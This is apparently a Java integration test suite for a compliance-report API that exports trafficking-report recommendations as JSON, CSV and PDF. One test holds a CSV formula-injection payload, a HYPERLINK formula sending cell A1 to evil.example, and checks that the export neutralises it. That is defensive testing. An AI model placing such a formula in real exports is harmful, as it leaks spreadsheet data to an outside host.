package org.rectrack.gateway.compliance;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.endsWith;
import static org.hamcrest.Matchers.equalTo;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.path.json.JsonPath;
import io.restassured.specification.RequestSpecification;
import org.apache.commons.csv.CSVFormat;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.rectrack.deploy.infra.testing.InfrastructureTestResource;
import org.rectrack.deploy.infra.testing.TestTokens;
import org.rectrack.events.EventEnvelope;
import org.rectrack.events.EventType;
import org.rectrack.events.evidence.Assessment;
import org.rectrack.events.evidence.EvidenceChanged;
import org.rectrack.events.evidence.EvidenceState;
import org.rectrack.events.evidence.MetricKind;
import org.rectrack.events.evidence.Visibility;
import org.rectrack.events.recommendations.Pillar;
import org.rectrack.events.recommendations.RecommendationChanged;
import org.rectrack.events.recommendations.RecommendationState;
import org.rectrack.events.recommendations.ReportChanged;
import org.rectrack.events.recommendations.Tier;
import org.rectrack.gateway.TestEvents;
import org.rectrack.gateway.TestEvents.CountryYear;
import org.rectrack.platform.problem.Problem;

/**
 * Year-end compliance reports from a read model fed through the real topics. Each test publishes its own report on a
 * country-year no other data has, so tests never see each other's data.
 */
@QuarkusTest
@WithTestResource(value = InfrastructureTestResource.class, initArgs = @ResourceArg(name = "database", value = "gateway"))
class ComplianceReportTest {

    private static final String LAO_SUMMARY = "ກະຊວງ ປ້ອງກັນ ຄວາມສະຫງົບ ໄດ້ຝຶກອົບຮົມ ຕຳຫຼວດ 300 ຄົນ";
    private static final String JSON = "application/json";
    private static final String CSV = "text/csv";
    private static final String PDF = "application/pdf";
    private static final ObjectMapper MAPPER = new ObjectMapper();

    @Test
    void aReportKnownAtAnInstantKeepsItsBytesInEveryFormatWhateverIsRecordedLater() {
        Fixture fixture = publishYear();
        Instant cutOff = Instant.now();
        byte[] json = download(fixture, cutOff, JSON);
        byte[] csv = download(fixture, cutOff, CSV);
        byte[] pdf = download(fixture, cutOff, PDF);
        // Nothing was recorded between the two instants: all but the instant and its fingerprint is the same.
        assertThat(dataOf(download(fixture, Instant.now(), JSON))).isEqualTo(dataOf(json));

        // After the cut-off: the verified evidence is retracted, the second recommendation is fulfilled.
        evidence(fixture.training, fixture.first, fixture.where.year(), Assessment.ADVANCES, EvidenceState.RETRACTED, 3,
                Visibility.PUBLIC);
        UUID fulfilment = UUID.randomUUID();
        evidence(fulfilment, fixture.second, fixture.where.year(), Assessment.FULFILLS, EvidenceState.VERIFIED, 1,
                Visibility.PUBLIC);
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> auditor()
                .get("/api/v1/recommendations/" + fixture.second)
                .then().statusCode(200).body("status", equalTo("IMPLEMENTED")));

        // Compared as text first, so that a failure shows where the two differ.
        assertThat(new String(download(fixture, cutOff, JSON), StandardCharsets.UTF_8))
                .isEqualTo(new String(json, StandardCharsets.UTF_8));
        assertThat(download(fixture, cutOff, JSON)).isEqualTo(json);
        assertThat(download(fixture, cutOff, CSV)).isEqualTo(csv);
        assertThat(download(fixture, cutOff, PDF)).isEqualTo(pdf);
        // The same report as of now rests on the changed data, and says so.
        byte[] later = download(fixture, Instant.now(), JSON);
        JsonPath now = JsonPath.from(new String(later, StandardCharsets.UTF_8));
        assertThat(now.getList("recommendations.status")).containsExactly("NO_EVIDENCE", "IMPLEMENTED");
        assertThat(now.getList("recommendations[1].evidence.id")).containsExactly(fulfilment.toString());
        assertThat(dataOf(later)).isNotEqualTo(dataOf(json));
    }

    @Test
    void theJsonReportExplainsEachStatusAndSummarisesTheYear() {
        Fixture fixture = publishYear();
        String country = fixture.where.country();
        int year = fixture.where.year();

        var report = auditor().accept(JSON)
                .queryParam("asOf", Instant.now().toString())
                .get("/api/v1/compliance-reports/" + country + "/" + year)
                .then().statusCode(200).extract().jsonPath();

        assertThat(report.getString("report.tier")).isEqualTo("TIER_2_WATCH_LIST");
        assertThat(report.getList("recommendations.code"))
                .containsExactly(country + "-" + year + "-01", country + "-" + year + "-02");
        assertThat(report.getList("recommendations.status")).containsExactly("IN_PROGRESS", "NO_EVIDENCE");
        assertThat(report.getString("recommendations[0].rule")).startsWith("SOME_ADVANCES");
        assertThat(report.getList("recommendations[0].evidence.id")).containsExactly(fixture.training.toString());
        assertThat(report.getString("recommendations[0].evidence[0].citation.title")).isEqualTo("Vientiane Times");
        assertThat(report.getInt("recommendations[0].pendingEvidence")).isEqualTo(1);
        assertThat(report.getInt("summary.total")).isEqualTo(2);
        assertThat(report.getString("summary.shareImplementedOrInProgress")).isEqualTo("50.0");
        assertThat(report.getList("metrics.kind")).containsExactly("OFFICIALS_TRAINED");
        assertThat(report.getList("metrics[0].values")).containsExactly(null, null, 300);
        assertThat(report.getString("dataSha256")).matches("[0-9a-f]{64}");
    }

    @Test
    void aWithdrawnRecommendationStaysInTheReportMarkedWithdrawnAndCountsInNoSummaryFigure() {
        Fixture fixture = publishYear();
        CountryYear where = fixture.where;
        RecommendationChanged withdrawn = new RecommendationChanged(fixture.second, fixture.report, where.country() + "-"
                + where.year() + "-02", where.country(), where.year(), 2,
                "Increase efforts to identify victims, including men, boys, and LGBTQI+ persons.", 1,
                List.of(Pillar.PROSECUTION), List.of(), null, RecommendationState.WITHDRAWN, "WITHDRAWN", Instant.now());
        send(EventType.RECOMMENDATION_CHANGED, fixture.second, 2, withdrawn);
        TestEvents.awaitVersion(EventType.RECOMMENDATION_CHANGED.name(), fixture.second, 2);

        var report = auditor().accept(JSON).queryParam("asOf", Instant.now().toString()).get(path(where))
                .then().statusCode(200).extract().jsonPath();
        String csv = new String(download(fixture, Instant.now(), CSV), StandardCharsets.UTF_8);

        assertThat(report.getList("recommendations.code"))
                .containsExactly(where.country() + "-" + where.year() + "-01", where.country() + "-" + where.year() + "-02");
        assertThat(report.getList("recommendations.state")).containsExactly("ACTIVE", "WITHDRAWN");
        assertThat(report.getInt("summary.total")).isEqualTo(1);
        assertThat(report.getString("summary.shareImplementedOrInProgress")).isEqualTo("100.0");
        assertThat(csv.lines().skip(1).filter(line -> line.contains(where.country() + "-" + where.year() + "-02")))
                .singleElement().asString().contains("WITHDRAWN");
    }

    @Test
    void theCsvOpensInASpreadsheetWithLaoTextIntact() {
        Fixture fixture = publishYear();

        byte[] csv = download(fixture, Instant.now(), CSV);

        assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).contains("\r\n")
                .contains("\"Increase efforts to identify victims, including men, boys, and LGBTQI+ persons.\"")
                .contains("ສືບສວນ ແລະ ດຳເນີນຄະດີ");
    }

    @Test
    void theSummaryAndTheFiguresAreCsvDownloadsOfTheirOwnLinkedFromTheReport() throws IOException {
        Fixture fixture = publishYear();
        Instant cutOff = Instant.now();
        var report = auditor().accept(CSV).queryParam("knownAt", cutOff.toString()).get(path(fixture.where))
                .then().statusCode(200).extract();
        String year = String.valueOf(fixture.where.year());
        // Each link names the other part in the same frame: the same asOf and knownAt.
        String frame = "?asOf=" + year + "-12-31&knownAt=" + cutOff.toString().replace(":", "%3A") + ">; rel=\"related\"";
        List<String> links = report.headers().getValues("Link");
        assertThat(links).hasSize(2).anySatisfy(link -> assertThat(link).endsWith(path(fixture.where) + "/summary" + frame))
                .anySatisfy(link -> assertThat(link).endsWith(path(fixture.where) + "/figures" + frame));
        String summaryLink = links.stream().filter(link -> link.contains("/summary")).findFirst().orElseThrow();

        // Sent as it came: it is encoded already.
        String summary = new String(auditor().urlEncodingEnabled(false).accept(CSV)
                .get(summaryLink.substring(1, summaryLink.indexOf('>'))).then().statusCode(200)
                .header("Content-Disposition", endsWith("-summary.csv\""))
                .extract().asByteArray(), StandardCharsets.UTF_8);
        String figures = new String(auditor().accept(CSV).queryParam("knownAt", cutOff.toString())
                .get(path(fixture.where) + "/figures").then().statusCode(200).extract().asByteArray(),
                StandardCharsets.UTF_8);

        try (var parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(summary.substring(1)))) {
            assertThat(parser.getRecords()).filteredOn(record -> record.get("measure").equals("IN_PROGRESS"))
                    .singleElement().satisfies(record -> assertThat(record.get("value")).isEqualTo("1"));
        }
        try (var parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(figures.substring(1)))) {
            assertThat(parser.getRecords()).singleElement().satisfies(record -> {
                assertThat(record.get("metric")).isEqualTo("OFFICIALS_TRAINED");
                assertThat(record.get(year)).isEqualTo("300");
            });
        }
        auditor().accept(JSON).get(path(fixture.where) + "/summary").then().statusCode(406)
                .contentType(Problem.MEDIA_TYPE).body("errors[0].message", equalTo("must admit one of text/csv"));
    }

    @Test
    void aRecommendationTextThatStartsAFormulaIsNeutralisedInTheCsv() {
        String formula = "\t=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")";
        Fixture fixture = publishYear(formula);

        String text = new String(download(fixture, Instant.now(), CSV), StandardCharsets.UTF_8);

        assertThat(text).contains(",\"'" + formula.replace("\"", "\"\"") + "\",")
                .doesNotContain("," + formula);
    }

    @Test
    void thePdfSetsLaoTextInAnEmbeddedLaoFont() throws IOException {
        Fixture fixture = publishYear();

        try (PDDocument pdf = Loader.loadPDF(download(fixture, Instant.now(), PDF))) {
            String text = new PDFTextStripper().getText(pdf);
            assertThat(text).contains("ສືບສວນ ແລະ ດຳເນີນຄະດີ")
                    .contains(fixture.where.country() + "-" + fixture.where.year() + "-01")
                    .contains("Figures from verified evidence");
            var resources = pdf.getPage(0).getResources();
            List<String> fonts = new ArrayList<>();
            for (var name : resources.getFontNames()) {
                fonts.add(resources.getFont(name).getName() + (resources.getFont(name).isEmbedded() ? "" : " (not embedded)"));
            }
            assertThat(fonts).anySatisfy(font -> assertThat(font).endsWith("+NotoSansLao-Regular"));
        }
    }

    @Test
    void theTypeIsNegotiatedFromAcceptWithItsQualityValues() {
        Fixture fixture = publishYear();
        // Accept as clients send it → the type answered. Equal preferences go to JSON, then CSV, then PDF.
        Map<String, String> cases = new LinkedHashMap<>();
        cases.put("*/*", JSON);
        cases.put("application/*", JSON);
        cases.put("text/*", CSV);
        cases.put(PDF, PDF);
        cases.put("text/csv; charset=UTF-8", CSV);
        cases.put("text/csv;charset=utf-8", CSV);
        cases.put("text/csv; header=present", CSV);
        cases.put("application/json; charset=UTF-8", JSON);
        cases.put("text/csv;charset=ISO-8859-1, application/pdf;q=0.5", PDF);
        cases.put("text/*;q=0.2, text/csv;q=0.9, */*;q=0.5", CSV);
        cases.put("text/*, text/csv;q=0, */*;q=0.1", JSON);
        cases.put("application/pdf;q=0, */*", JSON);
        cases.put("*/*, application/json;q=0", CSV);
        cases.put("application/json;q=0.1, text/csv;q=0.9, application/pdf;q=0.5", CSV);
        cases.put("text/*;q=0.5, application/pdf", PDF);
        cases.put("text/csv, application/pdf", CSV);
        cases.put("image/png, text/html;q=0.9, */*;q=0.1", JSON);
        cases.put("application/pdf;q=0.001", PDF);

        SoftAssertions softly = new SoftAssertions();
        cases.forEach((accept, expected) -> {
            var response = auditor().header("Accept", accept).queryParam("asOf", Instant.now().toString())
                    .get(path(fixture.where)).then().extract();
            softly.assertThat(response.statusCode()).as("status for Accept: %s", accept).isEqualTo(200);
            softly.assertThat(response.contentType()).as("type for Accept: %s", accept).startsWith(expected);
            softly.assertThat(response.header("Vary")).as("Vary for Accept: %s", accept).containsIgnoringCase("Accept");
        });
        softly.assertAll();
    }

    @Test
    void withoutAnAcceptHeaderTheReportIsJson() throws IOException, InterruptedException {
        Fixture fixture = publishYear();
        // REST Assured always sends an Accept header; the JDK's client sends none unless told.
        HttpRequest request = HttpRequest.newBuilder(URI.create(RestAssured.baseURI + ":" + RestAssured.port
                + path(fixture.where) + "?asOf=" + Instant.now()))
                .header("Authorization", "Bearer " + TestTokens.forRole("auditor")).GET().build();
        try (HttpClient client = HttpClient.newHttpClient()) {
            HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());

            assertThat(request.headers().firstValue("Accept")).isEmpty();
            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
                    type -> assertThat(type).startsWith(JSON));
            assertThat(JsonPath.from(response.body()).getString("country")).isEqualTo(fixture.where.country());
        }
    }

    @Test
    void anAcceptThatAdmitsNoOfferedTypeIsNotAcceptableAndNamesTheTypesOffered() {
        Fixture fixture = publishYear();
        for (String accept : List.of("application/pdf;q=0", "*/*;q=0", "image/png", "text/html, application/xml",
                "application/json;q=0, text/csv;q=0, application/pdf;q=0", "text/*;q=0, application/pdf;q=0",
                "text/csv;charset=ISO-8859-1", "application/pdf;q=0.000, text/csv;q=0.0")) {
            auditor().header("Accept", accept).queryParam("asOf", Instant.now().toString()).get(path(fixture.where)).then()
                    .statusCode(406)
                    .contentType(Problem.MEDIA_TYPE)
                    .body("status", equalTo(406))
                    .body("errors[0].field", equalTo("Accept"))
                    .body("errors[0].message", equalTo("must admit one of application/json, text/csv, application/pdf"));
        }
    }

    @Test
    void aMalformedAcceptIsABadRequest() {
        Fixture fixture = publishYear();

        for (String accept : List.of("not a media type", "application/pdf;q=2", "*/*;q=high", "text/csv;q=0.0001")) {
            auditor().header("Accept", accept).queryParam("asOf", Instant.now().toString()).get(path(fixture.where))
                    .then().statusCode(400).contentType(Problem.MEDIA_TYPE);
        }
    }

    @Test
    void restrictedEvidenceCountsInTheAuditorsReport() {
        Fixture fixture = publishYear();
        UUID restricted = UUID.randomUUID();
        evidence(restricted, fixture.second, fixture.where.year(), Assessment.NO_PROGRESS, EvidenceState.VERIFIED, 1,
                Visibility.RESTRICTED);

        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> auditor().accept(JSON)
                .get(path(fixture.where))
                .then().statusCode(200).body("recommendations[1].status", equalTo("NOT_STARTED")));
    }

    @Test
    void pendingEvidenceIsEachPieceAwaitingReviewOnEveryRecommendationItBearsOnWhateverItsVisibility() {
        Fixture fixture = publishYear();
        int year = fixture.where.year();
        UUID onBoth = UUID.randomUUID();
        UUID restricted = UUID.randomUUID();
        UUID rejected = UUID.randomUUID();
        UUID retracted = UUID.randomUUID();
        evidence(onBoth, List.of(fixture.first, fixture.second), year, Assessment.NO_PROGRESS, EvidenceState.SUBMITTED,
                1, Visibility.PUBLIC);
        evidence(restricted, List.of(fixture.second), year, Assessment.NO_PROGRESS, EvidenceState.SUBMITTED, 1,
                Visibility.RESTRICTED);
        evidence(rejected, List.of(fixture.second), year, Assessment.FULFILLS, EvidenceState.SUBMITTED, 1,
                Visibility.PUBLIC);
        evidence(rejected, List.of(fixture.second), year, Assessment.FULFILLS, EvidenceState.REJECTED, 2,
                Visibility.PUBLIC);
        evidence(retracted, List.of(fixture.second), year, Assessment.FULFILLS, EvidenceState.VERIFIED, 1,
                Visibility.PUBLIC);
        evidence(retracted, List.of(fixture.second), year, Assessment.FULFILLS, EvidenceState.RETRACTED, 2,
                Visibility.PUBLIC);
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            for (UUID id : List.of(onBoth, restricted)) {
                auditor().get("/api/v1/evidence/" + id).then().statusCode(200);
            }
            auditor().get("/api/v1/evidence/" + rejected).then().statusCode(200).body("state", equalTo("REJECTED"));
            auditor().get("/api/v1/evidence/" + retracted).then().statusCode(200).body("state", equalTo("RETRACTED"));
        });

        var report = auditor().accept(JSON).get(path(fixture.where)).then().statusCode(200).extract().jsonPath();

        // The first: the fixture's pending piece and the one on both; the second: the one on both and the restricted.
        assertThat(report.getList("recommendations.pendingEvidence")).containsExactly(2, 2);
        assertThat(report.getList("recommendations.status")).containsExactly("IN_PROGRESS", "NO_EVIDENCE");
        assertThat(report.getList("recommendations[0].evidence.id")).containsExactly(fixture.training.toString());
        assertThat(report.getList("recommendations[1].evidence")).isEmpty();
    }

    @Test
    void onlyAnAuditorMayDownloadAReport() {
        Fixture fixture = publishYear();

        for (String role : List.of("diplomat", "ngo", "reviewer", "admin")) {
            given().auth().oauth2(TestTokens.forRole(role)).accept(JSON).get(path(fixture.where))
                    .then().statusCode(403).contentType(Problem.MEDIA_TYPE);
        }
        given().accept(JSON).get(path(fixture.where)).then().statusCode(401).contentType(Problem.MEDIA_TYPE);
    }

    @Test
    void anUnknownCountryABadDayOrAFutureKnownAtIsABadRequest() {
        CountryYear where = TestEvents.uniqueCountryYear();

        auditor().accept(JSON).get("/api/v1/compliance-reports/XXX/" + where.year())
                .then().statusCode(400).body("errors[0].field", equalTo("country"));
        auditor().accept(JSON).queryParam("asOf", "last christmas").get(path(where))
                .then().statusCode(400).body("errors[0].field", equalTo("asOf"));
        // What is not recorded yet could still change the report: it would not be reproducible.
        auditor().accept(JSON).queryParam("knownAt", Instant.now().plusSeconds(3600).toString()).get(path(where))
                .then().statusCode(400).body("errors[0].field", equalTo("knownAt"))
                .body("errors[0].message", equalTo("must not be in the future"));
    }

    @Test
    void historyRecordedTodayCountsAsOfTheDaysItHappened() {
        // The README's own call: a year's report and evidence of an action in March of that year, all recorded today.
        Fixture fixture = publishYear();
        int year = fixture.where.year();

        var yearEnd = auditor().accept(JSON).get(path(fixture.where)).then().log().ifValidationFails().statusCode(200)
                .extract().jsonPath();
        assertThat(yearEnd.getString("asOf")).isEqualTo(year + "-12-31");
        assertThat(yearEnd.getList("recommendations.status")).containsExactly("IN_PROGRESS", "NO_EVIDENCE");

        // The report was published on 15 June: from that day on it counts, with the evidence of March.
        var publicationDay = auditor().accept(JSON).queryParam("asOf", year + "-06-15").get(path(fixture.where))
                .then().statusCode(200).extract().jsonPath();
        assertThat(publicationDay.getList("recommendations.status")).containsExactly("IN_PROGRESS", "NO_EVIDENCE");
        // The day before, it had made no recommendations yet.
        auditor().accept(JSON).queryParam("asOf", year + "-06-14").get(path(fixture.where))
                .then().statusCode(404).contentType(Problem.MEDIA_TYPE);
    }

    @Test
    void theAnswerPinsNowAsItsKnownAtAndThatLinkGivesTheSameBytesLater() {
        Fixture fixture = publishYear();

        var first = auditor().accept(CSV).get(path(fixture.where)).then().log().ifValidationFails().statusCode(200)
                .extract();
        String pinned = first.header("Content-Location");
        assertThat(pinned).contains("asOf=" + fixture.where.year() + "-12-31").contains("knownAt=");

        // Recorded after it: the pinned link does not see it.
        evidence(UUID.randomUUID(), fixture.second, fixture.where.year(), Assessment.FULFILLS, EvidenceState.VERIFIED, 2,
                Visibility.PUBLIC);
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> auditor()
                .get("/api/v1/recommendations/" + fixture.second)
                .then().statusCode(200).body("status", equalTo("IMPLEMENTED")));
        // Sent as it came: it is encoded already.
        assertThat(auditor().urlEncodingEnabled(false).accept(CSV).get(pinned).then().log().ifValidationFails()
                .statusCode(200).extract().asByteArray())
                .isEqualTo(first.asByteArray());
    }

    @Test
    void aYearWithoutAReportIsNotFound() {
        CountryYear where = TestEvents.uniqueCountryYear();

        for (String type : List.of(JSON, CSV, PDF)) {
            auditor().accept(type).get(path(where)).then().statusCode(404).contentType(Problem.MEDIA_TYPE);
        }
    }

    /** A report with two recommendations; verified training evidence with a figure on the first, one pending. */
    private record Fixture(CountryYear where, UUID report, UUID first, UUID second, UUID training) {
    }

    private Fixture publishYear() {
        return publishYear("Increase efforts to identify victims, including men, boys, and LGBTQI+ persons.");
    }

    private Fixture publishYear(String secondText) {
        CountryYear where = TestEvents.uniqueCountryYear();
        UUID report = UUID.randomUUID();
        UUID first = UUID.randomUUID();
        UUID second = UUID.randomUUID();
        Instant now = Instant.now();
        send(EventType.REPORT_CHANGED, report, 1, new ReportChanged(report, where.country(), where.year(),
                Tier.TIER_2_WATCH_LIST, "U.S. Department of State",
                where.year() + " Trafficking in Persons Report: " + where.country(), null,
                LocalDate.of(where.year(), 6, 15), null, null, 2, now));
        send(EventType.RECOMMENDATION_CHANGED, first, 1, recommendation(first, report, where, 1,
                "ສືບສວນ ແລະ ດຳເນີນຄະດີ ຜູ້ຄ້າມະນຸດ", now));
        send(EventType.RECOMMENDATION_CHANGED, second, 1, recommendation(second, report, where, 2, secondText, now));
        UUID training = UUID.randomUUID();
        evidence(training, first, where.year(), Assessment.ADVANCES, EvidenceState.VERIFIED, 2, Visibility.PUBLIC);
        evidence(UUID.randomUUID(), first, where.year(), Assessment.FULFILLS, EvidenceState.SUBMITTED, 1,
                Visibility.PUBLIC);
        // Every event of the fixture applied (they travel on several partitions) before any test takes a cut-off.
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            auditor().get("/api/v1/reports/" + report).then().statusCode(200);
            auditor().get("/api/v1/recommendations/" + second).then().statusCode(200);
            auditor().get("/api/v1/recommendations/" + first)
                    .then().statusCode(200).body("status", equalTo("IN_PROGRESS")).body("pendingCount", equalTo(1));
        });
        return new Fixture(where, report, first, second, training);
    }

    private static RecommendationChanged recommendation(UUID id, UUID report, CountryYear where, int rank, String text,
            Instant at) {
        return new RecommendationChanged(id, report, "%s-%d-%02d".formatted(where.country(), where.year(), rank),
                where.country(), where.year(), rank, text, 1, List.of(Pillar.PROSECUTION), List.of(), null,
                RecommendationState.ACTIVE, "CREATED", at);
    }

    /** Evidence of an action on 1 March of {@code year}; ADVANCES evidence states 300 officials trained in it. */
    private void evidence(UUID id, UUID recommendation, int year, Assessment assessment, EvidenceState state,
            long version, Visibility visibility) {
        evidence(id, List.of(recommendation), year, assessment, state, version, visibility);
    }

    /** As above, bearing on each of the recommendations with the same assessment. */
    private void evidence(UUID id, List<UUID> recommendations, int year, Assessment assessment, EvidenceState state,
            long version, Visibility visibility) {
        Instant now = Instant.now();
        List<EvidenceChanged.Metric> metrics = assessment == Assessment.ADVANCES
                ? List.of(new EvidenceChanged.Metric(MetricKind.OFFICIALS_TRAINED, new BigDecimal("300"), "PERSONS", null,
                        null, year))
                : List.of();
        LocalDate day = LocalDate.of(year, 3, 1);
        send(EventType.EVIDENCE_CHANGED, id, version, new EvidenceChanged(id, "lao-ngo",
                recommendations.stream().map(recommendation -> new EvidenceChanged.Link(recommendation, assessment))
                        .toList(), day, day, LAO_SUMMARY, "lo",
                new EvidenceChanged.Source("Vientiane Times", "Vientiane Times", "https://example.org/vt/1", null, day,
                        "training … to at least 300 police officers"),
                metrics, visibility, state,
                List.of(new EvidenceChanged.Transition(state, "someone", "lao-ngo", now, null)), state.name(), now));
    }

    private static <T> void send(EventType<T> type, UUID id, long version, T data) {
        TestEvents.publish(new EventEnvelope<>(UUID.randomUUID(), type.name(), type.schemaVersion(), Instant.now(), id,
                version, data));
    }

    private static RequestSpecification auditor() {
        return given().auth().oauth2(TestTokens.forRole("auditor"));
    }

    private static String path(CountryYear where) {
        return "/api/v1/compliance-reports/" + where.country() + "/" + where.year();
    }

    private static byte[] download(Fixture fixture, Instant knownAt, String type) {
        return auditor().accept(type).queryParam("knownAt", knownAt.toString())
                .get(path(fixture.where))
                .then().statusCode(200).extract().asByteArray();
    }

    /** A JSON report without what names the instant it was known at: the data it shows. */
    private static JsonNode dataOf(byte[] json) {
        try {
            ObjectNode report = (ObjectNode) MAPPER.readTree(json);
            report.remove(List.of("knownAt", "dataSha256"));
            return report;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
